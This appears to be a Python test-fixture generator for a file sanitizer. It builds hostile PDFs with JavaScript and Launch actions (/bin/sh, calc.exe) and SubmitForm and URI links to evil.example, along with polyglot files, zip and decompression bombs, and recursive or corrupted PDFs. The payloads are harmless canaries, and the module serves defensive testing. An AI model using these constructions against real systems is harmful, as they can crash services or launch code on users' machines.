"""Files that mean harm, and what must be left of none of them."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

CANARY = b"<script>kanarie</script>"
"""Stands wherever a file can hold something that might run."""

# good ones ----------------------------------------------------------------------------------------


@cache
def jpeg(size: tuple[int, int] = (60, 40), *, orientation: int = 1) -> bytes:
    """Return a photograph that tells where and when it was taken, and with what."""
    picture = Image.new("RGB", size, "white")
    picture.paste("black", (0, 0, size[0] // 2, size[1] // 2))
    notes = picture.getexif()
    notes[0x0112], notes[0x010F] = orientation, "Kanariefugl Kamera"
    notes.get_ifd(0x8825).update({1: "N", 2: (55.0, 40.0, 34.0)})
    made = io.BytesIO()
    picture.save(made, "JPEG", exif=notes, comment=CANARY, quality=90)
    return made.getvalue()


@cache
def png(size: tuple[int, int] = (60, 40), mode: str = "RGB") -> bytes:
    """Return a PNG with a text in it."""
    made = io.BytesIO()
    Image.new(mode, size, "white" if mode in {"RGB", "RGBA"} else 1).save(made, "PNG")
    return _with_chunk(made.getvalue(), b"tEXt", b"Comment\0" + CANARY)


@cache
def pdf(*, pages: int = 1, words: str = "Brev fra kommunen") -> bytes:
    """Return a paper with some words on it."""
    with pikepdf.new() as paper:
        for _ in range(pages):
            _page(paper, words)
        return _saved(paper)


def _page(paper: pikepdf.Pdf, words: str = "Brev fra kommunen") -> Any:
    page = paper.add_blank_page(page_size=(200, 100))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F=paper.make_indirect(font)))
    page.obj.Contents = paper.make_stream(f"BT /F 12 Tf 20 40 Td ({words}) Tj ET".encode())
    return page


def _saved(paper: pikepdf.Pdf, **how: Any) -> bytes:
    made = io.BytesIO()
    paper.save(made, fix_metadata_version=False, **how)
    return made.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _with_chunk(made: bytes, kind: bytes, data: bytes) -> bytes:
    end = made.rfind(b"\0\0\0\0IEND")
    return made[:end] + _chunk(kind, data) + made[end:]


# bad ones -----------------------------------------------------------------------------------------


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def _script() -> Dictionary:
    return _action("JavaScript", JS=String(CANARY.decode()))


def armed(dice: random.Random) -> bytes:
    """Return a PDF with several things in it that run, open, send or carry."""
    with pikepdf.new() as paper:
        page = _page(paper)
        for arm in dice.sample(_ARMS, 4):
            arm(paper, page)
        return _saved(paper)


def _opening(paper: pikepdf.Pdf, _page: Any) -> None:
    paper.Root.OpenAction = _script()


def _named(paper: pikepdf.Pdf, _page: Any) -> None:
    names = Array([String("a"), paper.make_indirect(_script())])
    paper.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _additional(paper: pikepdf.Pdf, page: Any) -> None:
    paper.Root.AA = Dictionary(WC=_script())
    page.obj.AA = Dictionary(O=_script(), C=_action("Launch", F=String("/bin/sh")))
    page.obj.PresSteps = Dictionary(NA=Dictionary(Kind=String(CANARY.decode())))


def _link(paper: pikepdf.Pdf, page: Any) -> None:
    todo = [
        _action("URI", URI=String("http://evil.example/" + CANARY.decode())),
        _action("GoToR", F=String("\\\\evil.example\\x"), D=Array([0, Name.Fit])),
        _action("Launch", F=String("calc.exe")),
        _action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("http://evil.example"))),
    ]
    notes = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=one, F=4)
        for one in todo
    ]
    page.obj.Annots = paper.make_indirect(Array([paper.make_indirect(one) for one in notes]))


def with_photograph(*, wrapped: bool) -> bytes:
    """Return a paper with a photograph on it, that tells what it tells."""
    with pikepdf.new() as paper:
        (_wrapped if wrapped else _photograph)(paper, _page(paper))
        return _saved(paper, compress_streams=False, stream_decode_level=_AS_IT_IS)


_AS_IT_IS = pikepdf.StreamDecodeLevel.none


def filled_in() -> bytes:
    """Return a form that somebody has filled in."""
    with pikepdf.new() as paper:
        _form(paper, _page(paper))
        return _saved(paper)


def _form(paper: pikepdf.Pdf, page: Any) -> None:
    look = paper.make_stream(b"BT /F 9 Tf (udfyldt) Tj ET")
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 50, 20])
    field = paper.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String(CANARY.decode()),
            V=String("udfyldt"),
            Rect=Array([0, 0, 50, 20]),
            AA=Dictionary(K=_script(), F=_script()),
            AP=Dictionary(N=look),
            F=4,
        )
    )
    page.obj.Annots = Array([field])
    paper.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DA=String("/Helv 0 Tf 0 g"),
        XFA=paper.make_stream(b"<xdp>" + CANARY + b"</xdp>"),
    )


def _carried(paper: pikepdf.Pdf, page: Any) -> None:
    paper.attachments["x.html"] = pikepdf.AttachedFileSpec(paper, CANARY, filename="x.html")
    held = paper.make_stream(CANARY)
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=held))
    page.obj.AF = Array([paper.make_indirect(spec)])
    page.obj.Resources.Properties = Dictionary(MC0=paper.make_indirect(Dictionary(spec)))


def _elsewhere(paper: pikepdf.Pdf, page: Any) -> None:
    picture = paper.make_stream(b"")
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    picture.F = Dictionary(FS=Name.URL, F=String("http://evil.example/x.jpg"))
    picture.Width = picture.Height = 1
    page.obj.Resources.XObject = Dictionary(Im=picture)


def _photograph(paper: pikepdf.Pdf, page: Any) -> None:
    _put_photograph(paper, page, jpeg() + CANARY, Name.DCTDecode)


def _wrapped(paper: pikepdf.Pdf, page: Any) -> None:
    packed = zlib.compress(jpeg()).hex().encode() + b">"
    ways = Array([Name.ASCIIHexDecode, Name.FlateDecode, Name.DCTDecode])
    _put_photograph(paper, page, packed, ways)


def _put_photograph(paper: pikepdf.Pdf, page: Any, data: bytes, ways: Any) -> None:
    picture = Stream(paper, data)
    picture.Type, picture.Subtype, picture.Filter = Name.XObject, Name.Image, ways
    picture.Width, picture.Height, picture.BitsPerComponent = 60, 40, 8
    picture.ColorSpace = Name.DeviceRGB
    page.obj.Resources.XObject = Dictionary(Im=picture)


def _rich(paper: pikepdf.Pdf, page: Any) -> None:
    note = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 99, 99]),
        RichMediaContent=Dictionary(Assets=Dictionary(JS=String(CANARY.decode()))),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )
    page.obj.Annots = Array([paper.make_indirect(note)])


def _told(paper: pikepdf.Pdf, page: Any) -> None:
    paper.docinfo["/Title"] = CANARY.decode()
    paper.trailer["/Kanarie"] = String(CANARY.decode())
    paper.trailer["/ID"] = Array([String(CANARY.decode()), String(CANARY.decode())])
    paper.Root.Metadata = paper.make_stream(b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>")
    page.obj.Metadata = paper.Root.Metadata
    outline = Dictionary(Title=String(CANARY.decode()), A=_script())
    paper.Root.Outlines = Dictionary(First=paper.make_indirect(outline))


_ARMS: list[Callable[[pikepdf.Pdf, Any], None]] = [
    *(_opening, _named, _additional, _link, _form, _carried, _elsewhere, _photograph, _rich),
    *(_told, _wrapped),
]


def _polyglots(dice: random.Random) -> Iterator[bytes]:
    html = b"<!doctype html>" + CANARY
    yield b"%PDF-1.7 " + html + b"\n" + pdf()[9:]
    yield html + pdf()
    yield pdf() + html
    yield b"GIF89a/*" + CANARY + b"*/=1;alert(1)"
    yield jpeg() + html
    yield png() + b"PK\x05\x06" + bytes(18)
    yield jpeg() + bomb_zip()
    yield armed(dice) + html
    yield b"\xff\xd8\xff\xfe" + struct.pack(">H", len(html) + 2) + html + jpeg()[2:]


def _disguised(_dice: random.Random) -> Iterator[bytes]:
    yield from (b"", b"%PDF-", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%!PS-Adobe-3.0", b"BM" * 99)
    yield b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + CANARY + b"</svg>"
    yield b"<!doctype html><html>" + CANARY
    yield b"\xef\xbb\xbf<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'a'>]>" + CANARY
    yield b"MZ" + bytes(200)
    yield bomb_zip()
    for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO"):
        made = io.BytesIO()
        Image.new("RGB", (32, 32)).save(made, kind)
        yield made.getvalue()


@cache
def bomb_zip() -> bytes:
    """Return an archive of ten kilobytes that unpacks to ten megabytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", bytes(10 << 20))
    return made.getvalue()


@cache
def _zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    part = bytes(1 << 20)
    return b"".join(packer.compress(part) for _ in range(megabytes)) + packer.flush()


def _floods(dice: random.Random) -> Iterator[bytes]:
    """Yield little files that become large when they are opened."""
    side = dice.choice((30_000, 65_535, 2**31 - 1))
    head = struct.pack(">IIBBBBB", side, side, 8, dice.choice((0, 2, 6)), 0, 0, 0)
    begin = b"\x89PNG\r\n\x1a\n"
    yield begin + _chunk(b"IHDR", head) + _chunk(b"IDAT", _zeros(1)) + _chunk(b"IEND", b"")
    yield _with_chunk(png(), b"zTXt", b"a\0\0" + _zeros(200))
    yield _with_chunk(png(), b"iCCP", b"a\0\0" + _zeros(200))
    small = struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)
    yield begin + _chunk(b"IHDR", small) + _chunk(b"IDAT", _zeros(200)) + _chunk(b"IEND", b"")
    frame = jpeg().find(b"\xff\xc0")
    size = struct.pack(">HH", 65_000, 65_000)
    yield jpeg()[: frame + 5] + size + jpeg()[frame + 9 :]
    yield flood_of_objects()
    yield flood_of_a_page()


@cache
def flood_of_objects() -> bytes:
    """Return a PDF whose objects are packed a thousand times."""
    packed = _zeros(400)
    return (
        b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode()
        + b">>stream\n"
        + packed
        + b"\nendstream endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 2 0 R/Size 3>>\n"
        b"startxref\n0\n%%EOF"
    )


@cache
def flood_of_a_page() -> bytes:
    """Return a PDF whose one page is packed a thousand times, twice over."""
    with pikepdf.new() as paper:
        page = _page(paper)
        page.obj.Contents = paper.make_stream(b"")
        page.obj.Contents.write(
            zlib.compress(_zeros(300), 9),
            filter=Array([Name.FlateDecode, Name.FlateDecode]),
            decode_parms=None,
        )
        return _saved(paper, compress_streams=False)


def _knots(dice: random.Random) -> Iterator[bytes]:
    """Yield papers that lead round in circles, go down for ever, or are locked."""
    head, tail = b"%PDF-1.4\n", b"\ntrailer<</Root 1 0 R/Size 9>>\nstartxref\n9\n%%EOF"
    yield head + b"1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj" + tail
    yield head + b"1 0 obj" + b"[" * dice.choice((600, 20_000)) + b"endobj" + tail
    with pikepdf.new() as paper:
        page = _page(paper)
        page.obj.Parent.Kids.append(page.obj.Parent)
        yield _saved(paper)
    with pikepdf.new() as paper:
        deep: Any = Array([])
        for _ in range(400):
            deep = Array([deep])
        _page(paper).obj.Resources.Properties = Dictionary(x=deep)
        yield _saved(paper)
    for password in ("", "hemmelig"):
        with pikepdf.new() as paper:
            _page(paper)
            yield _saved(paper, encryption=pikepdf.Encryption(owner="ejer", user=password))
    with pikepdf.new() as paper:
        yield _saved(paper)


def _damaged(dice: random.Random) -> Iterator[bytes]:
    """Yield good and armed ones, cut, spoilt, doubled and mixed."""
    whole = dice.choice((jpeg(), png(), pdf(), armed(dice), png((40, 40), "RGBA")))
    yield whole[: dice.randrange(len(whole))]
    spoilt = bytearray(whole)
    for _ in range(dice.choice((1, 3, 30))):
        spoilt[dice.randrange(len(spoilt))] = dice.randrange(256)
    yield bytes(spoilt)
    at = dice.randrange(len(whole))
    yield whole[:at] + dice.randbytes(dice.randrange(1, 200)) + whole[at:]
    yield whole[:at] + whole[dice.randrange(len(whole)) :]
    other = dice.choice((jpeg(), png(), pdf(), CANARY))
    yield whole[:at] + other + whole[at:]
    yield whole[:16] + dice.randbytes(dice.randrange(500))
    yield armed(dice)
    yield armed(dice)


RARE = 50
"""One in so many rounds holds those that take a second each."""


def variants(dice: random.Random) -> Iterator[bytes]:
    """Yield hostile files without an end; what takes long comes seldom."""
    n = 0
    while True:
        kinds = [_damaged, _damaged, _polyglots]
        if n % RARE == 0:
            kinds += [_floods, _knots, _disguised]
        for kind in kinds:
            yield from kind(dice)
        n += 1
